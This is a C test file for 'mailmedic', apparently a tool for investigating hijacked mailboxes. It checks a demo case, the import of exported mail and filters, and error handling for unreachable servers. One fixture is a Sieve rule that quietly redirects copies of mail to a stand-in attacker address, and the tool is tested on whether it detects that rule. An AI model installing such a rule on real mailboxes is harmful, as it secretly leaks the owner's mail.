/* test_begin.c - `mailmedic` without any words, by keys alone: the sample case, of which nothing
 * stays, and files that were exported. */
#include "robot.h"

#include "case/casefile.h"
#include "check.h"
#include "temp.h"

#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

static const char mail[] = "From: An <an@acme.example>\r\nTo: bo@partner.example\r\n"
                           "Subject: An order\r\nMessage-ID: <1@acme.example>\r\n"
                           "Date: Mon, 2 Nov 2026 10:00:00 +0700\r\n\r\nHello\r\n";
static const char script[] = "require [\"copy\"];\nredirect :copy \"drop@evil.example\";\n";

/* A folder of our own, where the program starts and where it may put what goes again. */
static int setup(void **state)
{
    static char folder[TEMP_PATH];
    struct error err = {0};
    char tmp[TEMP_PATH + 8];

    assert_ok(temp_make(folder, &err), &err);
    assert_int_equal(chdir(folder), 0);
    snprintf(tmp, sizeof(tmp), "%s/tmp", folder);
    assert_int_equal(mkdir(tmp, 0700), 0);
    assert_int_equal(setenv("TMPDIR", tmp, 1), 0); /* NOLINT(concurrency-mt-unsafe) */
    *state = folder;
    return 0;
}

static int teardown(void **state)
{
    unsetenv("TMPDIR"); /* NOLINT(concurrency-mt-unsafe) */
    assert_int_equal(chdir("/"), 0);
    temp_remove(*state);
    return 0;
}

static unsigned entries(const char *path)
{
    DIR *dir = opendir(path);
    unsigned count = 0;

    assert_non_null(dir);
    for (struct dirent *entry; (entry = readdir(dir));) /* NOLINT(concurrency-mt-unsafe) */
        count += entry->d_name[0] != '.';
    closedir(dir);
    return count;
}

static struct robot *start(const char *word)
{
    char program[] = PROGRAM, argument[32];
    char *argv[] = {program, word ? argument : NULL, NULL};

    snprintf(argument, sizeof(argument), "%s", word ? word : "");
    return robot_start(&(struct robot_options){.argv = argv, .height = 24, .width = 80});
}

static void leave(struct robot *robot, int status)
{
    int how = robot_stop(robot);

    assert_true(WIFEXITED(how));
    assert_int_equal(WEXITSTATUS(how), status);
}

static void expect_sample(struct robot *robot)
{
    robot_wait_for(robot, "Take in files: 1620 messages, 6 rules"); /* it has ended */
    robot_wait_for(robot, "Account DE89370400440532013000 replaces");
    robot_keys(robot, "3");
    robot_wait_for(robot, "in a file  backup.sieve"); /* no server, no word of which one runs */
    assert_int_equal(entries("tmp"), 1);
    robot_keys(robot, "q");
    leave(robot, 0);
    assert_int_equal(entries("tmp"), 0);
    assert_int_equal(entries("."), 1);
}

static void the_demo_needs_no_server_and_leaves_nothing(void **state)
{
    struct robot *robot = start(NULL);

    (void)state;
    robot_wait_for(robot, "Show me a demo");
    robot_keys(robot, "3");
    expect_sample(robot);
    expect_sample(start("demo"));
}

static void exported_files_become_a_case(void **state)
{
    struct robot *robot;
    struct error err = {0};

    (void)state;
    assert_int_equal(mkdir("exports", 0700), 0);
    assert_ok(temp_write("exports/1.eml", str_of(mail), &err), &err);
    assert_ok(temp_write("exports/filter.sieve", str_of(script), &err), &err);
    robot = start(NULL);
    robot_wait_for(robot, "I have exported mail");
    robot_keys(robot, "2");
    robot_wait_for(robot, "File or folder");
    robot_keys(robot, "exports\r");
    robot_keys(robot, "new.case\r");
    robot_wait_for(robot, "Take in files: 1 message, 1 rule,");
    robot_wait_for(robot, "drop@evil.example");
    robot_keys(robot, "q");
    leave(robot, 0);
    assert_int_equal(access("new.case/case.db", R_OK), 0);
}

/* A sentence, and no empty case. */
static void a_path_that_leads_nowhere_is_told(void **state)
{
    struct robot *robot = start(NULL);

    (void)state;
    robot_wait_for(robot, "I have exported mail");
    robot_keys(robot, "2");
    robot_wait_for(robot, "File or folder");
    robot_keys(robot, "exprots\r");
    robot_keys(robot, "new.case\r");
    robot_wait_for(robot, "This cannot be read: No such file or directory");
    robot_keys(robot, "\x1b");
    robot_wait_for(robot, "I have exported mail");
    robot_keys(robot, "q");
    leave(robot, 0);
    assert_int_equal(access("new.case", F_OK), -1);
}

/* A wrong name, a wrong port: the form again, with what was typed, and the case as it was. */
static void a_server_that_is_not_there_can_be_mended(void **state)
{
    struct robot *robot = start(NULL);

    (void)state;
    robot_wait_for(robot, "A mailbox may be stolen now");
    robot_keys(robot, "1");
    robot_wait_for(robot, "E-mail address");
    robot_keys(robot, "lan@acme.example\r\r\x15lan@acme.example\r");
    robot_wait_for(robot, "The server's name alone");
    robot_keys(robot, "\x15"
                      "127.0.0.1:1\rsecret\r\r");
    robot_wait_for(robot, "cannot reach 127.0.0.1:1: Connection refused");
    robot_wait_for(robot, "A mailbox may be stolen now"); /* the form's heading */
    assert_non_null(strstr(robot_screen(robot), "lan@acme.example"));
    assert_null(strstr(robot_screen(robot), "******"));
    robot_keys(robot, "\x7f"
                      "2\rsecret\r\r");
    robot_wait_for(robot, "cannot reach 127.0.0.1:2: Connection refused");
    robot_keys(robot, "\x1b");
    robot_wait_for(robot, "Show me a demo");
    robot_keys(robot, "q");
    robot_wait_for(robot, "It holds nothing of the mailbox");
    robot_keys(robot, "r\r");
    robot_wait_for(robot, "Removed: ");
    leave(robot, 0);
    assert_int_equal(access("lan.case", F_OK), -1);
}

/* The address was wrong, and with it the server and the case: the next try takes the case along. */
static void a_mistyped_address_leaves_no_case_behind(void **state)
{
    struct robot *robot = start(NULL);
    struct case_info info;
    struct casefile *cf;
    struct error err = {0};

    (void)state;
    robot_wait_for(robot, "A mailbox may be stolen now");
    robot_keys(robot, "1");
    robot_wait_for(robot, "E-mail address");
    robot_keys(robot, "lna@acme.example\r\r\x15"
                      "127.0.0.1:1\rsecret\r\r");
    robot_wait_for(robot, "cannot reach 127.0.0.1:1: Connection refused");
    robot_wait_for(robot, "A mailbox may be stolen now");
    robot_keys(robot, "\x1bOA\x1bOA\x15lan@acme.example\r");
    robot_wait_for(robot, "lan.case");
    robot_keys(robot, "\r\x15"
                      "127.0.0.1:2\rsecret\r\r");
    robot_wait_for(robot, "cannot reach 127.0.0.1:2: Connection refused");
    robot_keys(robot, "\x1b");
    robot_wait_for(robot, "Show me a demo");
    robot_keys(robot, "q");
    robot_wait_for(robot, "Enter alone keeps it");
    robot_keys(robot, "\r");
    robot_wait_for(robot, "Kept: ");
    leave(robot, 0);
    assert_int_equal(access("lna.case", F_OK), -1);
    assert_ok(casefile_open(&cf, "lan.case", CASE_READ, &err), &err);
    assert_ok(casefile_info(cf, &info, &err), &err);
    assert_string_equal(info.owner, "lan@acme.example");
    casefile_close(cf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(the_demo_needs_no_server_and_leaves_nothing, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(exported_files_become_a_case, setup, teardown),
        cmocka_unit_test_setup_teardown(a_server_that_is_not_there_can_be_mended, setup, teardown),
        cmocka_unit_test_setup_teardown(a_mistyped_address_leaves_no_case_behind, setup, teardown),
        cmocka_unit_test_setup_teardown(a_path_that_leads_nowhere_is_told, setup, teardown),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
